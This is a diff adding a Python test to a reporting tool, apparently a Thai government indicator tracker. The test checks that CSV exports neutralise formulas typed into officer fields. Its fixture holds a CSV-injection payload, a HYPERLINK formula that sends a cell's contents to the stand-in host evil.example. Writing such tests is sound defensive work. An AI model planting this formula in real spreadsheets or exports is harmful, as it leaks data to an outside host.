@@ -123,6 +123,23 @@ def test_status_csv_and_json_for_the_spreadsheet(division):
     assert document["forms"][1]["reported"] is False and document["forms"][2]["officer_contact"] == "โทร 1234"
 
 
+def test_status_csv_neutralises_formulas_in_what_officers_type(tmp_path):
+    """Names, positions, contacts and indicator names are typed by anyone: in the director's spreadsheet none of
+    them may run as a formula (=HYPERLINK, @SUM, +66 …); numbers stay numbers."""
+    from reportgen.render.overview import format_overview
+
+    hostile = {"name": '=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "position": "@SUM(A1:A9)",
+               "contact": "+66 2 123 4567"}
+    root = write_project(tmp_path / "p", {"indicators/2569/01.yaml": form(
+        "01", {"q1": q(2), "q2": q(5)}, officer=hostile, name="-ห้องสมุดมีชีวิต")})
+    text = format_overview(overview_of(load_project(root), today=TODAY), fmt="csv")
+    (row,) = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
+    assert row["officer_name"] == "'" + hostile["name"]
+    assert (row["officer_position"], row["officer_contact"]) == ("'@SUM(A1:A9)", "'+66 2 123 4567")
+    assert row["name"] == "'-ห้องสมุดมีชีวิต"
+    assert (row["fiscal_year"], row["quarter"], row["result"]) == ("2569", "2", "5")
+
+
 def test_status_of_another_quarter_and_of_the_running_one(division):
     text = run_status(division, "--year", "2569", "--quarter", "q1")
     assert "รายงานแล้ว 4 · ยังไม่รายงาน 0" in text
